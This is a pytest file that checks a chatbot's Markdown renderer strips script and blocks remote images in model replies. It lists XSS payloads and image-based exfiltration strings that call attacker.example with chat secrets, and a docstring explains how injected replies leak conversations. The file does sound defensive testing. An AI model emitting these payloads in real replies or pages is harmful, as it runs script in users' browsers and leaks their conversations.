"""Rendered replies are untrusted model output (OWASP LLM05): no script, no exfiltration."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from conversations.rendering import ALLOWED_TAGS, render_markdown


class Elements(HTMLParser):
    """The real elements of rendered HTML (escaped text that merely looks like markup is not one)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<iframe src="https://evil.example"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>",
    '<form action="https://evil.example"><input name=q></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<object data=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>body{display:none}</style>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_markup_can_run_script(payload: str) -> None:
    for tag, attrs in Elements(render_markdown(payload)).found:
        assert tag in ALLOWED_TAGS, f"<{tag}> is not on the allow-list"
        assert not any(name.startswith("on") for name in attrs), "no event handler attributes"
        href = attrs.get("href", "https://")
        assert href.split(":", 1)[0].lower() in {"https", "http", "mailto"}, f"unsafe link {href}"
        assert "src" not in attrs


def test_code_is_shown_as_text() -> None:
    html = render_markdown("```html\n<script>alert(1)</script>\n```")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


EXFILTRATION = [
    "![logo](https://attacker.example/collect?q=SECRET_FROM_CHAT)",
    '![x](https://attacker.example/p.png "title")',
    "![x][ref]\n\n[ref]: https://attacker.example/c?d=SECRET_FROM_CHAT",
    '<img src="https://attacker.example/c?d=SECRET_FROM_CHAT">',
]


@pytest.mark.parametrize("payload", EXFILTRATION)
def test_remote_images_are_never_loaded(payload: str) -> None:
    """A Markdown image is fetched by the browser the moment it renders: the classic way an
    injected reply leaks the conversation. Images become plain links the user may choose to follow."""
    elements = Elements(render_markdown(payload)).found
    assert all(tag != "img" and "src" not in attrs for tag, attrs in elements)


def test_links_open_safely_and_say_where_they_go() -> None:
    html = render_markdown("[docs](https://docs.example/page)")
    assert 'href="https://docs.example/page"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_formatting_survives() -> None:
    html = render_markdown("# Title\n\n**bold** and *em* and `code`\n\n- a\n- b\n\n| h |\n|:-:|\n| c |\n\n> quote")
    for fragment in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<code>code</code>", "<li>a</li>"):
        assert fragment in html
    assert '<th style="text-align:center">h</th>' in html
    assert "<blockquote>" in html


def test_a_link_shows_its_real_destination_on_hover() -> None:
    [(tag, attrs)] = Elements(render_markdown("[your bank](https://attacker.example/c?d=SECRET)")).found[1:]
    assert (tag, attrs["title"]) == ("a", "https://attacker.example/c?d=SECRET")
